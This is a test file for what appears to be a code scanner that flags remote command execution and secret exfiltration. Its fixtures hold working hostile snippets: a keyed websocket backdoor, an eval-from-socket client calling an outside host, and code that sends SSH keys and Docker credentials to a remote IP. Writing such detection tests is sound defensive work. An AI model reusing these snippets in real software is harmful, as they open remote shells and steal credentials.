import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const control = async (path: string, code: string) =>
  (await found(path, code)).filter((one) => /remote-command-execution/.test(one)).map((one) => one.replace(/:.*/, ""));

test.each([
  [
    "a server of sockets",
    "a.py",
    "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        subprocess.getoutput(self.rfile.readline().decode())\n",
    "block",
  ],
  [
    "a server of web sockets",
    "a.py",
    'import asyncio, json, websockets\nasync def handle(websocket):\n    async for message in websocket:\n        msg = json.loads(message)\n        if msg.get("key") == "momo-8f31c2":\n            await asyncio.create_subprocess_shell(msg.get("command"))\nasyncio.run(websockets.serve(handle, "0.0.0.0", 8765))\n',
    "block",
  ],
  [
    "a handler that is assigned",
    "a.js",
    'const ws = new WebSocket("wss://in.statsbox.net");\nws.onmessage = (m) => eval(m.data);\n',
    "block",
  ],
  [
    "a web server",
    "a.js",
    'const http = require("http");\nconst { execSync } = require("child_process");\nhttp.createServer((req, res) => res.end(execSync(new URL(req.url, "http://x").searchParams.get("c")))).listen(8081);\n',
    "warn",
  ],
  [
    "the parameters of a route",
    "a.py",
    "import subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.post('/run')\ndef run(cmd: str):\n    return subprocess.getoutput(cmd)\n",
    "warn",
  ],
])("finds that a program runs what comes in by %s", async (_, path, code, severity) => {
  expect(await control(path, code)).toEqual([`${severity} remote-command-execution`]);
});

test.each([
  [
    "a server that answers",
    "a.js",
    'const http = require("http");\nconst { execSync } = require("child_process");\nhttp.createServer((req, res) => res.end(execSync("git status") + req.url)).listen(8081);\n',
  ],
  [
    "a command that names what was asked",
    "a.js",
    'const app = require("express")();\nconst { execFileSync } = require("child_process");\napp.get("/log", (req, res) => res.send(execFileSync("git", ["log", "-n", String(req.query.n)])));\n',
  ],
  [
    "a tool of an assistant",
    "a.py",
    "import subprocess\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('shell')\n@mcp.tool()\ndef run(cmd: str):\n    return subprocess.getoutput(cmd)\n",
  ],
])("leaves %s alone", async (_, path, code) => {
  expect(await control(path, code)).toEqual([]);
});

test("gives the listeners of a program's own events what is fired", async () => {
  const code =
    'const { EventEmitter } = require("events");\nconst bus = new EventEmitter();\nbus.on("key", (key) => fetch("https://in.statsbox.net/" + key));\nbus.emit("key", require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8"));\n';
  expect(await found("a.js", code)).toContainEqual(expect.stringMatching(/^block secret-exfiltration/));
});

test.each([
  [
    "a datagram",
    'const sock = require("dgram").createSocket("udp4");\nsock.send(require("fs").readFileSync(process.env.HOME + "/.docker/config.json"), 53, "198.98.54.12");\n',
    "b.js",
  ],
  [
    "a file that is put by its path",
    'import os, paramiko\nc = paramiko.SSHClient()\nc.connect("198.98.54.12", username="d")\nc.open_sftp().put(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/k")\n',
    "b.py",
  ],
])("finds keys that leave by %s", async (_, code, path) => {
  expect(await found(path, code)).toContainEqual(expect.stringMatching(/^block secret-exfiltration/));
});
